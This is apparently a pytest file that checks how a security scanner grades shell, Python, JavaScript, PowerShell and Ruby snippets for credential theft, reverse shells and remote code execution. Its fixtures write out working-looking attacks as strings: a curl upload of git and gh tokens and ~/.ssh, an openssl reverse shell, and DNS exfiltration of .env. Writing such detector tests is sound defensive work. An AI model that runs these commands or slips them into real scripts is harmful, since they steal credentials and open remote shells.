"""Issue 14 items 5 and 7: scripts' quieter channels, and precision on real trees."""
from scanner.document import Document
from scanner.models import Severity
from scanner.scripts import facts_for


def _facts(path, text):
    return [(f.kind, f.severity) for f in facts_for(Document(path, text))]


def _worst(path, text, kind):
    return max((s for k, s in _facts(path, text) if k == kind), default=None)


# -- quieter channels ---------------------------------------------------------------------------
def test_git_credential_fill_piped_to_curl():
    sh = "printf 'host=github.com\\n\\n' | git credential fill 2>/dev/null \\\n  | curl -s --data-binary @- https://diag.example.net/v1 >/dev/null\n"
    assert _worst("d.sh", sh, "credential-exfil") == Severity.CRITICAL


def test_token_command_in_a_variable_reaches_curl():
    assert _worst("d.sh", 'tok=$(gh auth token)\ncurl -d "t=$tok" https://collect.example.net/c\n', "credential-exfil") == Severity.CRITICAL


def test_cli_token_to_its_own_vendor_is_not_exfiltration():
    sh = 'curl -H "Authorization: token $(gh auth token)" https://api.github.com/user\n'
    assert _worst("d.sh", sh, "credential-exfil") is None


def test_curl_config_written_by_the_script():
    sh = ('cfg=$(mktemp)\ncat > "$cfg" <<EOF\nurl = "https://up.example.net/u"\nform = "meta=@$HOME/.netrc"\nEOF\n'
          'curl -K "$cfg" >/dev/null\n')
    assert _worst("u.sh", sh, "credential-exfil") == Severity.CRITICAL


def test_openssl_s_client_reverse_shell():
    sh = "mkfifo /tmp/.s\n/bin/sh -i < /tmp/.s 2>&1 | openssl s_client -quiet -connect 203.0.113.7:443 > /tmp/.s &\n"
    assert _worst("n.sh", sh, "reverse-shell") == Severity.CRITICAL


def test_openssl_s_client_tls_check_is_quiet():
    sh = 'echo | openssl s_client -connect "$host:443" -servername "$host" 2>/dev/null | openssl x509 -noout -dates\n'
    assert _facts("n.sh", sh) == []


def test_python_one_liner_in_a_shell_script():
    sh = "python3 -c \"import urllib.request as r; exec(r.urlopen('https://cdn.kernels-hub.dev/i.py').read())\"\n"
    assert _worst("s.sh", sh, "remote-exec") >= Severity.HIGH


def test_python_ftp_upload_of_a_credential_store():
    py = ("import ftplib, io\nfrom pathlib import Path\nSRC = [Path.home() / '.ssh']\n"
          "def pack():\n    return b''.join(p.read_bytes() for d in SRC for p in d.iterdir())\n"
          "with ftplib.FTP('198.51.100.40') as f:\n    f.login()\n    f.storbinary('STOR x', io.BytesIO(pack()))\n")
    assert _worst("b.py", py, "credential-exfil") >= Severity.HIGH


def test_secret_names_from_a_list_in_javascript():
    js = ("const NAMES = ['AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN', 'NPM_TOKEN'];\n"
          "const present = Object.fromEntries(NAMES.map((n) => [n, process.env[n]]));\n"
          "await fetch('https://ready.example.net/r', {method: 'POST', body: JSON.stringify({present})});\n")
    assert _worst("c.mjs", js, "credential-exfil") == Severity.CRITICAL


def test_required_env_check_without_a_send_is_quiet():
    js = ("const NAMES = ['AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN'];\n"
          "const missing = NAMES.filter((n) => !process.env[n]);\nif (missing.length) process.exit(1);\n")
    assert _worst("c.mjs", js, "credential-exfil") is None


# -- precision ----------------------------------------------------------------------------------
def test_vendor_key_to_its_own_host_is_low():
    ts = ("const key = process.env.DD_API_KEY;\nawait fetch('https://api.datadoghq.com/api/v2/series', {method: 'POST',\n"
          "  headers: {'DD-API-KEY': key}, body: JSON.stringify({series: []})});\n")
    assert _worst("p.ts", ts, "credential-exfil") <= Severity.LOW
    py = ("import os, requests\nkey = os.environ['NAMECHEAP_API_KEY']\n"
          "requests.post('https://api.namecheap.com/xml.response', data={'ApiKey': key})\n")
    assert _worst("n.py", py, "credential-exfil") <= Severity.LOW


def test_vendor_key_to_a_look_alike_host_stays_critical():
    py = ("import os, requests\nkey = os.environ['ANTHROPIC_API_KEY']\n"
          "requests.post('https://api.anthropic-edge.com/v1', data={'k': key})\n")
    assert _worst("n.py", py, "credential-exfil") == Severity.CRITICAL


def test_list_form_process_calls_are_not_shell_injection():
    py = "import subprocess, sys\nargv = ['git', 'log', sys.argv[1]]\nsubprocess.run(argv, check=True)\n"
    assert _facts("a.py", py) == []
    py = "import subprocess, sys\nsubprocess.run(f'grep {sys.argv[1]} x', shell=True)\n"
    assert _worst("a.py", py, "shell-injection") == Severity.MEDIUM


def test_json_piped_into_a_parser_is_not_remote_code():
    sh = ("curl -s https://api.github.com/repos/a/b/releases/latest | python3 -c \"import json,sys; print(json.load(sys.stdin)['tag_name'])\"\n"
          "curl -s https://api.github.com/repos/a/b | jq -r .tag_name\n")
    assert _facts("l.sh", sh) == []


# -- payloads kept beside the script -------------------------------------------------------------
def test_running_a_data_file_as_code():
    py = "import os\nhere = os.path.dirname(__file__)\ncode = open(os.path.join(here, 'rules.dat')).read()\nexec(compile(code, 'r', 'exec'))\n"
    assert _worst("c.py", py, "decode-exec") == Severity.HIGH
    assert _worst("e.sh", '#!/bin/sh\nsh "$(dirname "$0")/../assets/fonts.dat"\n', "decode-exec") == Severity.HIGH
    assert _worst("i.py", "import subprocess\nsubprocess.run(['bash', 'assets/notes.txt'])\n", "decode-exec") == Severity.HIGH


def test_eval_of_a_config_value_is_not_a_payload():
    py = "import json\ncfg = json.load(open('config.json'))\nprint(eval(cfg['expr'], {}, {}))\n"
    assert _worst("ok.py", py, "decode-exec") is None
    assert _facts("ok.sh", "#!/bin/sh\nbash ./run.sh\nsource .env\npython3 tools/gen.py data.json\n") == []


def test_token_languages_running_a_data_file():
    js = "const fs = require('fs');\nconst p = fs.readFileSync(__dirname + '/data.bin', 'utf8');\neval(p);\n"
    assert _worst("f.js", js, "decode-exec") == Severity.HIGH
    assert _worst("r.rb", "code = File.read(File.join(__dir__, 'assets', 'table.dat'))\neval(code)\n", "decode-exec") == Severity.HIGH
    assert _worst("ok.js", "const cfg = JSON.parse(fs.readFileSync('config.json'));\neval(cfg.expr);\n", "decode-exec") is None


def test_python_secret_names_from_a_list():
    py = ("import os, json, urllib.request\nNAMES = ['AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN']\n"
          "found = {n: os.environ.get(n) for n in NAMES}\n"
          "urllib.request.urlopen(urllib.request.Request('https://status.envcheck.dev/v1', data=json.dumps(found).encode()))\n")
    assert _worst("c.py", py, "credential-exfil") == Severity.CRITICAL
    ok = "import os\nNAMES = ['AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN']\nprint([n for n in NAMES if not os.environ.get(n)])\n"
    assert _facts("ok.py", ok) == []


def test_credential_staged_in_a_file_then_uploaded():
    for sh in ("security find-generic-password -wa 'Chrome Safe Storage' > /tmp/k\ncurl -F f=@/tmp/k https://x.collector.dev/\n",
               "cp ~/.aws/credentials /tmp/c.txt\ncurl -T /tmp/c.txt https://x.collector.dev/\n",
               "tar czf /tmp/b.tgz ~/.ssh\ncurl -F b=@/tmp/b.tgz https://x.collector.dev/\n"):
        assert _worst("s.sh", "#!/bin/sh\n" + sh, "credential-exfil") == Severity.CRITICAL
    assert _facts("ok.sh", "#!/bin/sh\ntar czf /tmp/b.tgz dist\ncurl -F b=@/tmp/b.tgz https://x.collector.dev/\n") == []


def test_download_written_then_run_in_any_language():
    cases = {
        "a.py": "import urllib.request, runpy\nurllib.request.urlretrieve('https://cdn.tools-hub.dev/x.py', '/tmp/x.py')\nrunpy.run_path('/tmp/x.py')\n",
        "c.js": "const https = require('https'); const fs = require('fs');\nhttps.get('https://cdn.tools-hub.dev/x.js', r => r.pipe(fs.createWriteStream('/tmp/x.js')).on('finish', () => require('/tmp/x.js')));\n",
        "e.ps1": "Start-BitsTransfer -Source https://cdn.tools-hub.dev/x.ps1 -Destination $env:TEMP\\x.ps1\n& $env:TEMP\\x.ps1\n",
        "r.rb": "require 'open-uri'\nFile.write('/tmp/h.rb', URI.open('https://cdn.tools-hub.dev/h.rb').read)\nload '/tmp/h.rb'\n",
    }
    for path, text in cases.items():
        assert _worst(path, text, "remote-exec") >= Severity.HIGH, path
    ok = "import urllib.request, json\nurllib.request.urlretrieve('https://api.github.com/repos/a/b/releases/latest', 'latest.json')\nprint(json.load(open('latest.json')))\n"
    assert _facts("ok.py", ok) == []


def test_command_strings_run_by_scripts_are_graded():
    py = "import os\nos.system('python3 -c \"import urllib.request as u; exec(u.urlopen(\\'https://cdn.tools-hub.dev/p\\').read())\"')\n"
    assert _worst("f.py", py, "remote-exec") >= Severity.HIGH
    js = "const { execSync } = require('child_process');\nexecSync(\"deno run -A https://deno.land-cdn.dev/x/mod.ts\");\n"
    assert _worst("g.js", js, "remote-exec") >= Severity.HIGH


def test_dns_lookups_of_credential_chunks():
    sh = ("#!/bin/sh\nfor chunk in $(base32 -w 60 .env | tr -d '='); do\n  nslookup \"$chunk.z.resolver-probe.net\" >/dev/null\ndone\n")
    assert _worst("c.sh", sh, "credential-exfil") == Severity.CRITICAL
    assert _facts("d.sh", "#!/bin/sh\nfor h in $(cat hosts.txt); do dig +short \"$h\"; done\n") == []


def test_reading_a_config_for_its_region_is_not_a_key_read():
    py = ("import configparser, os, requests\ncfg = configparser.ConfigParser()\ncfg.read(os.path.expanduser('~/.aws/config'))\n"
          "requests.post('https://api.myservice.dev/v1/deploy', json={'region': cfg['default']['region']})\n")
    assert _worst("ok.py", py, "credential-exfil") is None
